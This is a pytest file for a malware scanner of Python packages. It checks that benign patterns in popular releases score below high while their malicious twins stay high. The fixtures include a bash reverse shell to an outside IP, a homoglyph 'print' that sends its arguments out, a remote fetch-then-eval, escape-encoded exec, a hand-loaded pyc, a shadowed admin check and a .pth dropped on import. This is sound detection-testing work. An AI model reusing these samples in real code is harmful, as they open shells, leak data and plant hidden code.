"""Shapes of popular releases that cried wolf on the tune-only popular-extra-6 corpus (round
8, ranks 4801-7200), read as what they are (no project names), each beside its malicious twin
that must stay high:

* compiled files left in ``__pycache__`` after their module was deleted are never imported,
  unless the package's own code loads compiled files by hand;
* escapes in bytes literals of a binary format, Greek maths names and parser-combinator
  lambdas (classes fixed in the same round by another change) stay below high here too;
* the obfuscator's own command line and library are not code protected by it;
* a chain lowered in a CI or test folder does not raise the package through its own hits;
* a bundle's source map and a worker inlined as a data:application/javascript URL in a
  served bundle are no encoded payload; classic-notebook extensions are served bundles;
* a library's own cache or data file written on import is not an import-time act.
"""

from __future__ import annotations

import importlib.util
import marshal

from app.core.archive import open_artifact
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import make_sdist, make_wheel

HIGH = ("high", "critical")


def _wheel(tmp_path, files, name="gizmo"):
    return scan_artifact(open_artifact(make_wheel(tmp_path, name=name, files=files)))


def _sdist(tmp_path, files, name="gizmo"):
    return scan_artifact(open_artifact(make_sdist(tmp_path, name=name, files=files)))


def _ids(res) -> set[str]:
    return {t.id for t in res.threats if t.severity in HIGH}


def _pyc(source: str) -> bytes:
    """A .pyc of this interpreter: magic, flags, two zero words, the marshalled code."""
    code = compile(source, "<fixture>", "exec")
    return importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(code)


# --------------------------------------------------------------------- stale __pycache__


def test_stale_pycache_of_a_deleted_module_is_not_a_hidden_payload(tmp_path):
    """An sdist built from a working tree where a subpackage was deleted but its
    ``__pycache__`` (one .pyc per Python the maintainer tested) was left behind: Python never
    imports a __pycache__ file whose source is gone, so it is shown, not high."""
    files = {"gizmo/__init__.py": b"VERSION = '1.0'\n"}
    for ver in ("310", "311", "312"):
        for mod in ("__init__", "views", "models"):
            files[f"gizmo/passkeys/__pycache__/{mod}.cpython-{ver}.pyc"] = _pyc("X = 1\n")
    res = _sdist(tmp_path, files)
    pyc = [h for h in res.findings if h.rule == "bin.pyc_only"]
    assert pyc and all(h.severity == "medium" for h in pyc)
    assert res.risk.level not in HIGH


def test_sourceless_pyc_in_place_stays_high(tmp_path):
    """``gizmo/loader.pyc`` without ``loader.py`` beside ``__init__.py`` is importable as
    ``gizmo.loader``: the code that runs cannot be reviewed."""
    files = {
        "gizmo/__init__.py": b"from gizmo import loader\n",
        "gizmo/loader.pyc": _pyc("import os\nos.system('id')\n"),
    }
    res = _wheel(tmp_path, files)
    assert "disguise.obfuscation" in _ids(res)
    assert res.risk.level in HIGH


def test_pycache_orphan_that_the_package_loads_by_hand_stays_high(tmp_path):
    """The same orphaned __pycache__ file with a module that reads it and unmarshals it:
    the import system's rule no longer protects anyone, the code is hidden and run."""
    loader = (
        b"import marshal, os\n"
        b"_p = os.path.join(os.path.dirname(__file__), '__pycache__', 'core.cpython-311.pyc')\n"
        b"exec(marshal.loads(open(_p, 'rb').read()[16:]))\n"
    )
    files = {
        "gizmo/__init__.py": loader,
        "gizmo/__pycache__/core.cpython-311.pyc": _pyc("X = 1\n"),
    }
    res = _wheel(tmp_path, files)
    pyc = [h for h in res.findings if h.rule == "bin.pyc_only"]
    assert pyc and pyc[0].severity == "high"
    assert res.risk.level in HIGH


# --------------------------------------------------------------------- escaped bytes

# A disk-image reader's partition-table signature and a binary-analysis library's prologue
# patterns: bytes that happen to spell letters, compared and searched, never decoded.
BINARY_FORMATS = rb"""import re
import struct

GPT_SIG = b'\x45\x46\x49\x20\x50\x41\x52\x54'
PROLOGUES = [
    rb"\xe9\x2d[\x41\x43\x46\x47\x4d\x4f]\xf0",
    rb"\xb8[\x00-\xff]\x00\x00\x00[\x50\x51\x52\x53\x55\x56\x57]{0,7}\x8b",
]


def is_gpt(header: bytes) -> bool:
    return header[:8] == GPT_SIG


def prologues(code: bytes):
    return [m.start() for p in PROLOGUES for m in re.finditer(p, code)]
"""


def test_escaped_bytes_of_a_binary_format_are_no_disguise(tmp_path):
    """Escapes in bytes literals that are compared or matched as bytes are binary data: shown
    at medium, the package is not high."""
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/disk.py": BINARY_FORMATS})
    esc = [h for h in res.findings if h.rule == "txt.escaped_text"]
    assert all(h.severity not in HIGH for h in esc)
    assert "disguise.obfuscation" not in _ids(res)
    assert res.risk.level not in HIGH


def test_escaped_text_beside_binary_bytes_stays_high(tmp_path):
    """The same file with a str written as escapes and evaluated (how BlankOBF hides
    'compile'): the str run is high even though a bytes run comes first."""
    hidden = BINARY_FORMATS + (
        b'_c = eval("\\x63\\x6f\\x6d\\160\\151\\154\\145")\nexec(_c("print(1)", "<s>", "exec"))\n'
    )
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/disk.py": hidden})
    assert [h.severity for h in res.findings if h.rule == "txt.escaped_text"] == ["high"]
    assert "disguise.obfuscation" in _ids(res)
    assert res.risk.level in HIGH


def test_escaped_bytes_that_are_decoded_and_run_stay_high(tmp_path):
    """A bytes literal of escapes decoded on its line, or one spelling code, is hidden code."""
    decoded = (
        b"import os\n"
        b"CMD = b'\\x75\\x6e\\x61\\x6d\\x65\\x20\\x2d\\x61'.decode()\n"  # 'uname -a'
        b"os.popen(CMD).read()\n"
    )
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/probe.py": decoded})
    assert [h.severity for h in res.findings if h.rule == "txt.escaped_text"] == ["high"]
    assert "disguise.obfuscation" in _ids(res)
    spelled = b"PAYLOAD = b'\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73'\n"  # 'import os'
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/probe.py": spelled}, name="other")
    assert [h.severity for h in res.findings if h.rule == "txt.escaped_text"] == ["high"]
    assert "disguise.obfuscation" in _ids(res)


# --------------------------------------------------------------------- the obfuscator itself

# The obfuscator's own package: its command line imports its modules, a helper reads the
# licence through the old runtime's library. Nothing here is encrypted.
OBFUSCATOR_CLI = b"""import sys

from pyarmor.cli.context import Context
from pyarmor.cli.core import Pytransform3


def main(argv=None):
    ctx = Context()
    return Pytransform3.generate_obfuscated_scripts(ctx, argv or sys.argv[1:])
"""
LICENCE_HELPER = b"""import pytransform


def licence_info():
    return pytransform.get_license_info()
"""


def test_the_obfuscator_tools_own_code_is_not_protected_code(tmp_path):
    """Imports of the obfuscator's command line and library are shown at medium: the
    package is the tool, not code protected by it."""
    res = _wheel(
        tmp_path,
        {
            "pyarmor/__init__.py": b"",
            "pyarmor/cli/__main__.py": OBFUSCATOR_CLI,
            "pyarmor/helper/licence.py": LICENCE_HELPER,
        },
        name="pyarmor",
    )
    hits = [h for h in res.findings if h.rule == "py.pyarmor"]
    assert hits and all(h.severity == "medium" for h in hits)
    assert res.risk.level not in HIGH


def test_a_protected_module_stays_high(tmp_path):
    """A module protected by PyArmor 8 (runtime import, then the encrypted blob handed to
    __pyarmor__) and one of PyArmor 7 (pyarmor_runtime() from pytransform): unreviewable."""
    blob = b"PY000000\x00\x03\x0b\x00\xa7\x0d\x0d\x0a" + bytes(range(256)) * 4
    v8 = (
        b"# Pyarmor 8.5.2, 000000\n"
        b"from pyarmor_runtime_000000 import __pyarmor__\n"
        b"__pyarmor__(__name__, __file__, " + repr(blob).encode() + b")\n"
    )
    v7 = (
        b"import pytransform\n"
        b"pytransform.pyarmor_runtime()\n"
        b"__pyarmor__(__name__, __file__, " + repr(blob).encode() + b", 2)\n"
    )
    for i, protected in enumerate((v8, v7)):
        res = _wheel(tmp_path, {"gizmo/__init__.py": protected}, name=f"gizmo{i}")
        high = [h for h in res.findings if h.rule == "py.pyarmor" and h.severity in HIGH]
        assert high, i
        assert "disguise.obfuscation" in _ids(res)


# --------------------------------------------------------------------- a lowered threat's hits

# A CI helper that checks a port answers before the tests run: two probes that read the
# service's banner from the connection (a probe that only opens it is no reverse shell at all).
PORT_PROBE = b"""#!/bin/bash
set -u
echo "Host 127.0.0.1:8000 test:"
timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/8000; head -c 4 <&3' 2>&1 && echo OK || echo FAILED
echo "Trying 172.17.0.1:8000..."
timeout 3 bash -c 'exec 3<>/dev/tcp/172.17.0.1/8000; head -c 4 <&3' 2>&1 && echo OK || echo FAILED
"""


def test_a_chain_lowered_in_a_ci_folder_does_not_raise_the_package_through_its_hits(tmp_path):
    """A chain of two hits in a test or CI folder is shown one step lower (medium); its hits
    keep their own severity for the reader but count only up to the threat's level: the
    package was high while its only threat was medium."""
    res = _wheel(
        tmp_path,
        {"gizmo/__init__.py": b"", "gizmo/devtools/ci/forward-ports.sh": PORT_PROBE},
    )
    shells = [t for t in res.threats if t.id == "chain.reverse_shell"]
    assert shells and all(t.severity == "medium" for t in shells)
    assert res.risk.level not in HIGH


def test_the_same_probes_outside_a_ci_folder_and_a_real_reverse_shell_stay_high(tmp_path):
    """Outside tests and CI the chain keeps its level; in a test folder a single line wiring
    an interactive shell to a socket is not lowered at all."""
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/forward-ports.sh": PORT_PROBE})
    assert "chain.reverse_shell" in _ids(res)
    shell = b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/tests/helper.sh": shell}, name="other")
    assert "chain.reverse_shell" in _ids(res)
    assert res.risk.level in HIGH


# --------------------------------------------------------------------- maths names

# A numerical library writing its formulas' symbols as names: the sum, the mean, the
# standard deviation, a correlation beside the Latin name it is kept apart from by case.
MATHS = """import numpy as np


def _merge_topk_PI(PA, PB):
    return np.minimum(PA, PB)


def _merge_topk_\u03c1I(\u03c1A, \u03c1B):
    return np.maximum(\u03c1A, \u03c1B)


def stats(T, m):
    \u03a3_T = np.cumsum(T)
    \u03bc_Q = \u03a3_T[m:] / m
    \u03c3_Q = np.sqrt(\u03bc_Q)
    tmp_\u03c1 = \u03bc_Q / \u03c3_Q
    return tmp_\u03c1
""".encode()


def test_greek_letters_as_maths_symbols_in_names_are_no_homoglyph_attack(tmp_path):
    """Names mixing Greek symbols with Latin that read as no other name of the file are
    notation: shown at medium, the package is not high."""
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/core.py": MATHS})
    glyph = [h for h in res.findings if h.rule == "py.homoglyph"]
    assert all(h.severity not in HIGH for h in glyph)
    assert res.risk.level not in HIGH


def test_a_name_that_reads_as_another_name_of_the_file_or_a_builtin_stays_high(tmp_path):
    """A second ``is_admin`` with a Cyrillic 'і' shadowing the real check, and a Cyrillic
    'р' making a ``print`` that is not the built-in: each reads as a name it is not."""
    shadow = (
        "def is_admin(user):\n    return user.role == 'admin'\n\n\n"
        "def \u0456s_admin(user):\n    return True\n\n\n"
        "ALLOWED = \u0456s_admin\n"
    ).encode()
    fake_print = (
        "import urllib.request\n\n\n"
        "def \u0440rint(*args):\n"
        "    urllib.request.urlopen('http://203.0.113.9/?q=' + ' '.join(map(str, args)))\n"
    ).encode()
    for i, src in enumerate((shadow, fake_print)):
        res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/auth.py": src}, name=f"g{i}")
        glyph = [h for h in res.findings if h.rule == "py.homoglyph"]
        assert glyph and glyph[0].severity == "high", i
        assert "disguise.unicode" in _ids(res)


# --------------------------------------------------------------------- nested lambdas

# A parser built from combinators: every alternative a lambda handed to all/any/optional.
COMBINATORS = b"""class Parser:
    def typ(self, pos):
        return self.all(
            pos,
            (
                lambda p: self.any(p, (self.base_type, self.message_type)),
                lambda p: self.optional(
                    p,
                    lambda p: self.all(
                        p,
                        (
                            lambda p: self.literal(p, "["),
                            lambda p: self.optional(
                                p,
                                lambda p: self.any(
                                    p,
                                    (
                                        self.decimal,
                                        lambda p: self.all(
                                            p, (lambda p: self.literal(p, "<="), self.decimal)
                                        ),
                                    ),
                                ),
                            ),
                            lambda p: self.literal(p, "]"),
                        ),
                    ),
                ),
            ),
        )
"""


def test_a_parser_combinator_grammar_of_nested_lambdas_is_no_disguise(tmp_path):
    """Lambdas nested six deep, each handed to a combinator, are a grammar: medium."""
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/msg.py": COMBINATORS})
    chain = [h for h in res.findings if h.rule == "py.lambda_chain"]
    assert all(h.severity not in HIGH for h in chain)
    assert res.risk.level not in HIGH


def test_lambdas_called_in_place_stay_high(tmp_path):
    """A one-line obfuscator's nest of lambdas called where they are written: code wrapped
    to defeat reading."""
    inline = (
        b"(lambda _a: (lambda _b: (lambda _c: (lambda _d: (lambda _e: _e(_d))"
        b"(print))(_c))(_b))(_a))('x')\n"
    )
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/run.py": inline})
    assert [h.severity for h in res.findings if h.rule == "py.lambda_chain"] == ["high"]
    assert "disguise.obfuscation" in _ids(res)


# --------------------------------------------------------------------- bundles' inlined data


def _worker_source() -> bytes:
    body = "".join(
        f"function handler{i}(msg) {{ postMessage({{id: {i}, text: msg.data.trim()}}); }}\n"
        for i in range(300)
    )
    return ('"no use strict";\n!(function(window) {\n' + body + "})(this);\n").encode()


def _source_map() -> bytes:
    import json
    import random

    rng = random.Random(8)
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    mappings = ";".join(
        ",".join("".join(rng.choice(letters) for _ in range(4)) for _ in range(8))
        for _ in range(2000)
    )
    doc = {
        "version": 3,
        "file": "./src/lib/clientside.js",
        "names": ["window"],
        "mappings": mappings,
    }
    return json.dumps(doc, separators=(",", ":")).encode()


def test_a_worker_inlined_as_a_data_url_in_a_served_bundle_is_no_encoded_exec(tmp_path):
    """A served editor bundle exporting its worker as a data:application/javascript URL
    beside the bundle's own new Function: the browser loads the worker by URL, nothing
    decodes it for eval."""
    import base64

    b64 = base64.b64encode(_worker_source()).decode()
    bundle = (
        "!function(e,t){module.exports=t()}(self,function(){return {\n"
        f'6545:function(e){{e.exports="data:application/javascript;base64,{b64}"}},\n'
        "7000:function(e){e.exports=function(src){return new Function('x', src)}}}});\n"
    ).encode()
    files = {"gizmo/__init__.py": b"", "gizmo/static/dist/editor.min.js": bundle}
    res = _wheel(tmp_path, files)
    assert any(h.capability == "obf.encoded_blob" for h in res.findings)
    assert "disguise.encoded_exec" not in {t.id for t in res.threats}
    assert res.risk.level not in HIGH


def test_a_source_map_is_inert_data_and_encoded_code_is_not():
    """A bundler's eval development build appends each module's source map as base64 JSON
    (read as a long high-entropy token): the map is never code, so it pairs with no eval.
    The same encoding of JavaScript stays a possible payload."""
    import base64

    from app.core.capabilities.blobkinds import inert_blob

    smap = base64.b64encode(_source_map()).decode()[:200]
    code = base64.b64encode(_worker_source()).decode()[:200]
    assert inert_blob(smap, "str.high_entropy", javascript=True)
    assert not inert_blob(code, "str.high_entropy", javascript=True)
    assert not inert_blob(code, "str.base64_blob", javascript=True)


def test_encoded_code_decoded_for_eval_in_a_bundle_stays_high(tmp_path):
    """The same worker code as a plain base64 string decoded by atob and evaluated, in the
    served bundle and outside it: a hidden payload."""
    import base64

    b64 = base64.b64encode(_worker_source()).decode()
    payload = f'var p="{b64}";\nvar run=new Function(atob(p));run();\n'.encode()
    for i, where in enumerate(("gizmo/static/dist/editor.min.js", "gizmo/lib/index.js")):
        res = _wheel(tmp_path, {"gizmo/__init__.py": b"", where: payload}, name=f"g{i}")
        assert "disguise.encoded_exec" in _ids(res), where


# --------------------------------------------------------------------- notebook extensions

# Where the classic notebook serves an extension's bundle from (a wheel's data folder).
NBEXT = "gizmo-1.0.data/data/share/jupyter/nbextensions/gizmo-jupyter/widget.js"


def _remote_eval_hit(path: str, match: str):
    """The text pattern's hit (pat.js_remote_eval) as the scan makes it for a bundle too big
    for the tree reader (a 20 MB minified widget): request ... new Function on one line."""
    from app.core.capabilities.hits import make_hit

    return make_hit(
        "exec.remote_code",
        "critical",
        path,
        [match],
        1,
        None,
        0,
        match,
        "pat.js_remote_eval",
        "Downloads code and evaluates it.",
    )


def test_a_notebook_extension_bundle_loading_its_own_code_is_no_remote_exec():
    """share/jupyter/nbextensions/ is served to the browser like a labextension: a request
    whose URL the caller hands in (WebAssembly glue: Request(eT(t,r)) ... new Function) is
    the bundle loading its own chunks, not remote code run on the installing machine."""
    from app.core.capabilities.threats import find_threats

    glue = "Request(eT(t,r),Ei(n));return da(o)},e.wbg.f=function(t,r){return new Function("
    threats = find_threats([_remote_eval_hit(NBEXT, glue)])
    assert "chain.remote_exec" not in {t.id for t in threats}


def test_a_served_bundle_fetching_a_named_url_to_eval_stays_critical():
    """The same folder with fetch('https://...') handed to eval: the address is written in the
    code, the bundle runs what a foreign server sends. Outside a served folder the glue
    itself stays a chain."""
    from app.core.capabilities.threats import find_threats

    named = "fetch('https://203.0.113.7/p.js').then(r=>r.text()).then(t=>eval(t))"
    threats = find_threats([_remote_eval_hit(NBEXT, named)])
    assert [t.severity for t in threats if t.id == "chain.remote_exec"] == ["critical"]
    glue = "Request(eT(t,r),Ei(n));return da(o)},e.wbg.f=function(t,r){return new Function("
    threats = find_threats([_remote_eval_hit("gizmo/lib/widget.js", glue)])
    assert "chain.remote_exec" in {t.id for t in threats}


# --------------------------------------------------------------------- a library's own data

# On import, a binary-analysis library pickles the C header it parsed into the temp folder
# (a cache keyed by user and digest), and a JavaScript engine copies the ICU tables an
# installed resource package holds next to its version stamp.
FFI_CACHE = b"""import getpass
import hashlib
import os
import pickle
import tempfile

HEADER = "int f(int);"


def _parse():
    digest = hashlib.md5(HEADER.encode()).hexdigest()
    cache_location = os.path.join(
        tempfile.gettempdir(), f"gizmo_ffi_parser_cache.{getpass.getuser()}.{digest}"
    )
    if not os.path.isfile(cache_location):
        with open(cache_location, "wb") as f:
            f.write(pickle.dumps({"decls": HEADER}))


_parse()
"""
ICU_COPY = b"""import os
from importlib.resources import files

FOLDERS = [os.path.expanduser("~/.local/share/gizmo"), "/usr/share/gizmo"]


def icu_sync():
    for f in files("gizmo-icu").iterdir():
        if f.name != "icudtl.dat":
            continue
        data = f.read_bytes()
        for folder in FOLDERS:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "icudtl.dat"), mode="wb") as fd:
                fd.write(data)
            with open(os.path.join(folder, "gizmo-version.txt"), mode="w") as fd:
                fd.write("1.0")


icu_sync()
"""


def test_a_cache_or_data_file_a_library_writes_on_import_is_not_an_import_time_act(tmp_path):
    """A pickled parse cache in the temp folder, ICU tables and a version stamp copied to a
    data folder: the library's own data, shown at medium, not raised to place.import_time."""
    for i, src in enumerate((FFI_CACHE, ICU_COPY)):
        res = _wheel(tmp_path, {"gizmo/__init__.py": src}, name=f"g{i}")
        writes = [h for h in res.findings if h.rule == "py.write_outside"]
        assert writes and all(h.severity == "medium" for h in writes), i
        assert "place.import_time" not in _ids(res), i
        assert res.risk.level not in HIGH, i


def test_a_runnable_file_written_on_import_stays_an_import_time_act(tmp_path):
    """The same import-time write under a name that runs (a .pth in the temp folder, a
    script named like a cache) is a dropped payload: place.import_time, high."""
    for i, name in enumerate(("gizmo_cache.pth", "version_check.sh")):
        src = ICU_COPY.replace(b'"gizmo-version.txt"', repr(name).encode())
        res = _wheel(tmp_path, {"gizmo/__init__.py": src}, name=f"r{i}")
        assert "place.import_time" in _ids(res), name


def test_a_runnable_f_string_name_written_on_import_stays_an_act(tmp_path):
    """The f-string file names above are read for writes: one that starts with text and ends
    in a runnable suffix (a .pth in the temp folder, keyed by user) is a dropped payload."""
    drop = (
        b"import os\nimport tempfile\n\n"
        b"user = os.getlogin()\n"
        b"path = os.path.join(tempfile.gettempdir(), f'cache_{user}.pth')\n"
        b"with open(path, 'w') as f:\n    f.write('import os')\n"
    )
    res = _wheel(tmp_path, {"gizmo/__init__.py": drop})
    assert "place.import_time" in _ids(res)
